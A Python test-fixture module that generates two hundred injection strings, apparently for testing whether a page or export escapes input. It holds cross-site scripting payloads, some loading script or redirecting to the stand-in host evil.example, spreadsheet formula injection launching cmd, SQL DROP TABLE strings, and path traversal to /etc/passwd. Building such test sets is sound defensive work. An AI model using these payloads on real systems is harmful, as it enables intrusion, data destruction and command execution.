"""Two hundred texts that would show themselves if a page or an export took them for markup.

Each leaves a mark: an element of the class `qi-xss`, a dialog, `window.qiXss`, or a request to
evil.example. Forms after the public cheat sheets on cross-site scripting.
"""

from __future__ import annotations

from itertools import islice

_RUN = "window.qiXss=1"
_ALERT = f"{_RUN};alert(1)"
_EVIL = "http://evil.example/qi"
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onstart",
    "onanimationstart", "onpointerenter", "onbeforetoggle",
)  # fmt: skip
_TAGS = (
    "<img class=qi-xss src=x {on}={js}>",
    "<svg class=qi-xss {on}={js}></svg>",
    "<body class=qi-xss {on}={js}>",
    "<input class=qi-xss autofocus {on}={js}>",
    "<details class=qi-xss open {on}={js}>x</details>",
    "<video class=qi-xss src=x {on}={js}></video>",
    "<marquee class=qi-xss {on}={js}>x</marquee>",
    '"><iframe class=qi-xss src="javascript:{js}" {on}={js}></iframe>',
    "'><a class=qi-xss href=javascript:{js} {on}={js}>x</a>",
    "</textarea></title></style></script><p class=qi-xss {on}={js}>x",
)
_ALONE = (
    f"<script class=qi-xss>{_ALERT}</script>",
    f"<ScRiPt class=qi-xss>{_ALERT}</sCrIpT>",
    f"<script class=qi-xss src={_EVIL}.js></script>",
    f"<scr<script>ipt>{_ALERT}</scr</script>ipt>",
    f"</script><script class=qi-xss>{_ALERT}</script>",
    f"<svg/class=qi-xss><script>{_ALERT}</script></svg>",
    f"<math class=qi-xss><mtext><script>{_ALERT}</script>",
    f'<object class=qi-xss data="javascript:{_ALERT}"></object>',
    f'<embed class=qi-xss src="javascript:{_ALERT}">',
    f"<link class=qi-xss rel=stylesheet href={_EVIL}.css>",
    f"<style class=qi-xss>@import '{_EVIL}.css'</style>",
    f'<meta class=qi-xss http-equiv=refresh content="0;url={_EVIL}">',
    f"<base class=qi-xss href={_EVIL}>",
    f"<form class=qi-xss action={_EVIL}><button>x</button></form>",
    f'<div class=qi-xss style="background:url({_EVIL}.png)">x</div>',
    f"<template class=qi-xss><script>{_ALERT}</script></template>",
    f'<noscript><p title="</noscript><img class=qi-xss src=x onerror={_ALERT}>">',
    f"<!--><img class=qi-xss src=x onerror={_ALERT}>-->",
    f"<![CDATA[><img class=qi-xss src=x onerror={_ALERT}>]]>",
    f"<?xml version='1.0'?><x class=qi-xss onclick={_ALERT}/>",
    f"![x]({_EVIL}.png)",
    f"![x][1]\n\n[1]: {_EVIL}.png",
    f"[x](javascript:{_ALERT})",
    f"[x](data:text/html,<script>{_ALERT}</script>)",
    f"[x]({_EVIL})",
    f"<{_EVIL}>",
    f"javascript:{_ALERT}",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{_EVIL}",
    f"vbscript:{_ALERT}",
    f"$\\href{{javascript:{_ALERT}}}{{x}}$",
    f"$$\\includegraphics{{{_EVIL}.png}}$$",
    "{{constructor.constructor('window.qiXss=1')()}}",
    "${window.qiXss=1}",
    "#{window.qiXss=1}",
    "<%= window.qiXss=1 %>",
    "{% if 1 %}<b class=qi-xss>x</b>{% endif %}",
    ":material/home: :red[<b class=qi-xss>x</b>]",
    "`<b class=qi-xss>x</b>` **<b class=qi-xss>y</b>**",
    f"&lt;img class=qi-xss src=x onerror={_ALERT}&gt;",
    f"&#60;img class=qi-xss src=x onerror={_ALERT}&#62;",
    f"\\u003cimg class=qi-xss src=x onerror={_ALERT}\\u003e",
    f"%3Cimg%20class=qi-xss%20src=x%20onerror={_ALERT}%3E",
    f"＜img class=qi-xss src=x onerror={_ALERT}＞",
    f"\u202e<img class=qi-xss src=x onerror={_ALERT}>",
    f"<img class=qi-xss src=x onerror={_ALERT}//",
    f"<img class=qi-xss src=`x`onerror={_ALERT}>",
    f"<img/class=qi-xss/src=x/onerror={_ALERT}>",
    f"<a class=qi-xss href='java&#x0A;script:{_ALERT}'>x</a>",
    f'=HYPERLINK("{_EVIL}","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'\"><b class=qi-xss>",
    "' OR 1=1 --",
    "'; DROP TABLE inspection; --",
    '"; DROP TABLE inspection; --',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
)  # fmt: skip


def texts() -> list[str]:
    """Two hundred, all different; no two runs differ."""
    tags = (
        tag.format(on=on, js=js)
        for js in (_RUN, f"alert`1`,{_RUN}")
        for on in _HANDLERS
        for tag in _TAGS
    )
    return [*_ALONE, *islice(tags, 200 - len(_ALONE))]


def fields(length: int) -> list[str]:
    """Those that fit into a field of this length."""
    return [text for text in texts() if len(text) <= length and text.isprintable()]
